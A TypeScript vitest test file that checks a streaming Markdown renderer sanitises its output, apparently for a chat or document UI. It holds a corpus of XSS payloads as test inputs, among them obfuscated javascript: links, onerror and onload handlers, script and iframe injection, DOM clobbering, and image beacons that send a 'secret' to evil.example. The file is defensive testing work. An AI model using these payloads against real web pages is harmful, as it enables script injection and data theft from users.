import { expect, test } from 'vitest'
import { MarkdownRenderer } from '../../src/rendering/markdown/markdown-renderer.js'
import { renderWhole } from './markdown-kit.js'

const ELEMENTS = new Set(
  'DIV P H3 H4 H5 H6 UL OL LI SPAN STRONG EM DEL CODE PRE A BR HR BLOCKQUOTE FIGURE FIGCAPTION BUTTON TABLE THEAD TBODY TR TH TD SUP INPUT'.split(
    ' ',
  ),
)
const ATTRIBUTES = new Set(
  'class checked id href rel target title tabindex role aria-label type disabled data-copy data-language part start scope'.split(
    ' ',
  ),
)

const CORPUS = [
  '[a](javascript:alert(1))',
  '[a](JaVaScRiPt:alert(1))',
  '[a]( javascript:alert(1))',
  '[a](java\nscript:alert(1))',
  '[a](&#106;avascript:alert(1))',
  '[a](javascript&colon;alert(1))',
  '[a](\u0001javascript:alert(1))',
  '[a](vbscript:msgbox(1))',
  '[a](data:text/html,<script>alert(1)</script>)',
  '[a](blob:https://example.org/1)',
  '[a](file:///etc/passwd)',
  '[a](//evil.example/x)',
  '[a](/relative)',
  '<javascript:alert(1)>',
  '[a][r]\n\n[r]: javascript:alert(1)',
  '![x](javascript:alert(1))',
  '![x](https://evil.example/pixel.png?secret)',
  '![x" onerror="alert(1)](x)',
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '<svg onload=alert(1)><animate onbegin=alert(1)></svg>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<form action="https://evil.example"><input name=a></form>',
  '<a href="javascript:alert(1)">x</a>',
  '<style>*{background:url(https://evil.example)}</style>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<div id=body name=cookie>clobber</div>',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '```html\n<script>alert(1)</script>\n```',
  '[a](https://ok.example "x\\" onmouseover=alert(1)")',
  '| <img src=x onerror=alert(1)> | b |\n| - | - |\n| <script>1</script> | c |',
  '- [x] <script>alert(1)</script>',
  '[^1]\n\n[^1]: <img src=x onerror=alert(1)> [a](javascript:alert(1))',
  '[^"onclick=alert(1)]\n\n[^"onclick=alert(1)]: x',
  '[![x](https://evil.example/p.png)](javascript:alert(1))',
  '![a\n\nb](https://evil.example/?q=\n\nsecret)',
  '![x][r]\n\n[r]: https://evil.example/pixel.png?secret',
  '> - > 1. [a](javascript:alert(1)) <iframe src=//evil.example>',
  '<https://ok.example/?"onclick=alert(1)>',
  '&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;',
  '[a](&#x6A;avascript&#58;alert(1))',
  '[a](jav\tascript:alert(1)) [b](\\u006aavascript:alert(1))',
  '**<img src=x** onerror=alert(1)> *<svg/onload=alert(1)*',
  '`<img src=x onerror=alert(1)>` ``<script>``',
]

function check(container: HTMLElement): void {
  for (const element of container.querySelectorAll('*')) {
    expect(ELEMENTS, element.tagName).toContain(element.tagName)
    for (const { name } of element.attributes) expect(ATTRIBUTES, name).toContain(name)
    if (element instanceof HTMLAnchorElement) {
      expect(element.protocol).toMatch(/^(?:https?|mailto|tel):$/)
      expect(element.rel).toBe('noopener noreferrer nofollow')
    }
  }
}

test.each(CORPUS)('%j makes nothing but harmless elements, at every cut and at the end', (source) => {
  const container = document.createElement('div')
  const renderer = new MarkdownRenderer(container)
  for (let end = 1; end < source.length; end++) {
    renderer.render(source.slice(0, end), false)
    check(container)
  }
  renderer.render(source, true)
  check(container)
})

test('raw HTML is shown as the text that it is', () => {
  const container = document.createElement('div')
  new MarkdownRenderer(container).render('a <b>c</b>\n\n<script>alert(1)</script>\n', true)
  expect(container.textContent).toBe('a <b>c</b><script>alert(1)</script>\n')
})

test('an image is named and linked, never loaded', () => {
  const container = renderWhole('![a cat](https://example.org/cat.png)')
  expect(container.querySelector('img')).toBe(null)
  expect(container.querySelector('a')?.href).toBe('https://example.org/cat.png')
  expect(container.textContent).toContain('a cat')
})

test('an image of an allowed origin is shown, and tells its server nothing of the page', () => {
  const source =
    '![a cat](https://img.example/cat.png) ![b](https://img.example.evil/?secret) ![c](http://img.example/c.png)'
  const container = renderWhole(source, { imageOrigins: ['https://img.example'] })
  const images = [...container.querySelectorAll('img')]
  expect(images.map((image) => image.getAttribute('src'))).toEqual(['https://img.example/cat.png'])
  expect(images[0]?.alt).toBe('a cat')
  expect(images[0]?.referrerPolicy).toBe('no-referrer')
})

test('the address of an allowed image is not asked for before it is whole', () => {
  const container = document.createElement('div')
  const renderer = new MarkdownRenderer(container, { imageOrigins: ['https://img.example'] })
  const source = '![a cat](https://img.example/cat.png) and'
  for (let end = 1; end <= source.indexOf(')'); end++) {
    renderer.render(source.slice(0, end), false)
    expect(container.querySelector('img')).toBe(null)
  }
})
